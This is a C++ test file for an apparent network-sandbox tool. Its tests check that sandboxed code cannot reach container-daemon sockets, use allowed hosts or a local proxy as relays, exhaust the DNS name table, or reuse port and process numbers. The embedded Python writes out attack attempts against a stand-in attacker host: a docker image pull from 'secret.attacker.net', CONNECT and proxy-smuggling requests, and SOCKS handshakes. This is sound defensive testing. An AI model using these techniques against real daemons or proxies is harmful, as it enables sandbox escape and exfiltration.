// The attack: others carry the command's bytes: the docker daemon of the machine, which dials,
// resolves and builds for whoever may talk to it, and allowed hosts that are proxies themselves.
// And tables that fill up or are reused, so that one thing is taken for another. What must stop it:
// sockets of daemons are out of sight (helpers/credential-mask) and the machine's loopback is out
// of reach (helpers/firewall); the forwarder names the origin itself (helpers/egress-proxy); a
// table that is full gives no address, and no verdict comes from a table of flows.
#include <nlohmann/json.hpp>

#include "attack/attack.hpp"
#include "support/audit.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using RelayAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, RelayAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

// A daemon in all the places where one listens. It says so when anybody comes, and would pull.
constexpr const char* kDaemon = R"(
import os, selectors, socket
chosen = selectors.DefaultSelector()
for path in ('/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
             '/run/buildkit/buildkitd.sock', '/run/user/33/docker.sock', '/home/runner/.docker/run/docker.sock',
             '/tmp/docker.sock'):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    os.chmod(path, 0o777)
    s.listen()
    chosen.register(s, selectors.EVENT_READ, path)
for port in (2375, 2376):
    s = socket.create_server(('0.0.0.0', port))
    chosen.register(s, selectors.EVENT_READ, str(port))
print('up', flush=True)
while True:
    for key, _ in chosen.select():
        key.fileobj.accept()
        print('VISITED', key.data, flush=True)
        try: socket.getaddrinfo('secret.attacker.net', 443)
        except OSError: pass
)";

TEST_P(RelayAttack, NET_25_NET_26_no_container_daemon_pulls_builds_or_dials_for_the_command) {
  auto daemon = world.spawn_in_machine({"/usr/bin/python3", "-u", "-c", kDaemon});
  ASSERT_TRUE(daemon.wait_for_output("up")) << daemon.errors();
  const auto result = run_python(std::string(kPrelude) + R"(
import glob, itertools
paths = ['/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
         '/run/buildkit/buildkitd.sock', '/run/user/33/docker.sock', '/home/runner/.docker/run/docker.sock',
         '/tmp/docker.sock', '/proc/1/root/run/docker.sock', '/proc/self/root/run/docker.sock']
for path in paths:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        s = socket.socket(socket.AF_UNIX, kind)
        try:
            s.connect(path)
            s.send(b'POST /images/create?fromImage=secret.attacker.net/x HTTP/1.0\r\n\r\n')
            print('CONNECTED', path)
        except OSError as e:
            pass
for address in ('127.0.0.1', '20.55.0.2', '172.17.0.1', '172.30.0.1', '::1'):
    for port in (2375, 2376): try_tcp(address, port)
try:
    print('NAMED', socket.gethostbyname('host.docker.internal'))
except OSError as e:
    print('no host.docker.internal')
print('DOCKER_HOST' in os.environ)
)",
                                 "example.org", {"--env", "X=1"});
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(result.output, HasSubstr("no host.docker.internal\nFalse\n"));
  EXPECT_THAT(world.packets(), IsEmpty());
  EXPECT_THAT(world.dns_queries(), IsEmpty());
  EXPECT_THAT(world.loopback_packets(), IsEmpty());
  daemon.signal(SIGKILL);
  EXPECT_THAT(daemon.finish().output, Not(HasSubstr("VISITED")));
}

// A request for another origin never goes to an allowed host over plain HTTP, by either door.
TEST_P(RelayAttack, NET_36_an_allowed_host_is_not_used_as_a_proxy_over_plain_http) {
  const auto result = run_python(std::string(kPrelude) + R"(
mapped = socket.gethostbyname('example.org')
requests = (b'CONNECT attacker.net:443 HTTP/1.1\r\nHost: attacker.net:443\r\n\r\n',
            b'CONNECT attacker.net:443 HTTP/1.1\r\nHost: example.org\r\n\r\n',
            b'GET http://attacker.net/secret HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
            b'GET http://attacker.net/secret HTTP/1.1\r\nHost: example.org\r\n\r\n',
            b'GET /secret HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
            b'\x05\x01\x00', b'\x04\x01\x01\xbb\xc6\x29\x1e\x07x\x00')
for request in requests:
    for address, port, prefix in ((mapped, 80, b''), ('127.0.0.1', 3128, b'CONNECT example.org:80 HTTP/1.1\r\nHost: example.org:80\r\n\r\n')):
        s = socket.create_connection((address, port), timeout=15)
        if prefix:
            s.sendall(prefix)
            s.recv(1000)
        s.sendall(request)
        s.shutdown(socket.SHUT_WR)
        try:
            answer = s.recv(1000).split(b'\r\n')[0]
        except OSError as e:
            answer = errno.errorcode.get(e.errno)
        print(answer, flush=True)
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr(" 200 ")));
  EXPECT_THAT(world.web_requests(), IsEmpty());
  EXPECT_THAT(world.packets_to_others({"93.184.216.34", "2606:2800:220:1::1"}), IsEmpty());
}

// The documented limit: an entry with a port is a wire to that host, and what a host does with
// bytes that it was sent is not for us to see. The record says that the bytes passed unread.
TEST_P(RelayAttack, NET_36_an_opaque_entry_is_a_wire_to_that_host_and_to_no_other) {
  const auto result = run_python(std::string(kPrelude) + R"(
s = socket.create_connection(('example.org', 8080), timeout=15)
s.sendall(b'GET /secret HTTP/1.1\r\nHost: attacker.net\r\nConnection: close\r\n\r\n')
print(s.recv(1000).split(b'\r\n')[0])
)",
                                 "example.org:8080", {"--audit-dir", test_world::kAuditDirectory});
  EXPECT_EQ(result.exit_code, 0) << result;
  const auto requests = world.web_requests();
  ASSERT_EQ(requests.size(), 1U);
  EXPECT_EQ(requests[0].host, "attacker.net");
  EXPECT_THAT(world.packets_to_others({"93.184.216.34", "2606:2800:220:1::1"}), IsEmpty());
  const auto records = test_world::audit_records_of(world, "example.org", "allow");
  ASSERT_EQ(records.size(), 1U);
  EXPECT_EQ(records[0]["protocol"], "tcp");
  EXPECT_EQ(records[0]["rule"], "example.org:8080");
  EXPECT_GT(records[0]["bytesUp"], 0);
}

// Names are invented until no address is left for them; then those that have one keep it, and the
// denied stay denied.
TEST_P(RelayAttack, NET_35_a_full_table_of_names_opens_nothing_and_takes_nothing_away) {
  const auto result = run_python(std::string(kPrelude) + R"(
import subprocess
first = socket.gethostbyname('www.example.org')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('127.0.0.1', 53))
s.settimeout(10)
def lookup(name):
    labels = b''.join(bytes([len(x)]) + x.encode() for x in name.split('.')) + b'\0'
    s.send(b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + labels + b'\0\1\0\1')
    answer = s.recv(512)
    return answer[3] & 15, answer[-4:]
seen = {}
code = 0
for i in range(20000):
    code, address = lookup(f'n{i}.example.org')
    if code != 0: break
    seen.setdefault(address, []).append(i)
print('full', code == 2, 'distinct', all(len(v) == 1 for v in seen.values()), 'many', i > 10000)
print('kept', socket.gethostbyname('www.example.org') == first)
print('denied', lookup('attacker.net')[0])
for name in ('www.example.org', 'attacker.net', 'n0.example.org'):
    for options in ((), ('--noproxy', '*')):
        r = subprocess.run(['curl', '-sSf', '-m', '20', *options, f'https://{name}/'], capture_output=True, text=True)
        print(name, r.stdout.strip() or 'nothing')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("full True distinct True many True\nkept True\ndenied 3\n"));
  EXPECT_THAT(result.output, HasSubstr("www.example.org hello from www.example.org\n"
                                       "www.example.org hello from www.example.org\n"
                                       "attacker.net nothing\nattacker.net nothing\n"));
  EXPECT_THAT(world.packets_to_others({"93.184.216.35", "2606:2800:220:1::2"}), IsEmpty());
}

// The same five-tuple, first of an allowed connection, then of another process with another wish.
TEST_P(RelayAttack, NET_35_a_reused_port_and_process_number_carry_no_verdict_over) {
  const auto result = run_python(std::string(kPrelude) + R"(
import subprocess
def request(target):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    s.settimeout(20)
    s.bind(('127.0.0.1', 40123))
    s.connect(('127.0.0.1', 3128))
    s.sendall(f'CONNECT {target}:443 HTTP/1.1\r\nHost: {target}:443\r\n\r\n'.encode())
    status = s.recv(4096).split()[1].decode()
    s.close()
    return status
for round in range(20):
    for target in ('example.org', 'attacker.net'):
        pid = os.fork()
        if pid == 0:
            print(target, request(target), flush=True)
            os._exit(0)
        os.waitpid(pid, 0)
)",
                                 "example.org", {"--audit-dir", test_world::kAuditDirectory});
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("attacker.net 200")));
  EXPECT_THAT(result.output, Not(HasSubstr("example.org 403")));
  EXPECT_EQ(test_world::audit_records_of(world, "attacker.net", "deny").size(), 20U);
  EXPECT_THAT(world.packets_to_others(), IsEmpty());
  EXPECT_THAT(world.dns_queries(), Not(testing::Contains(HasSubstr("attacker"))));
}

}  // namespace
}  // namespace awf::attack
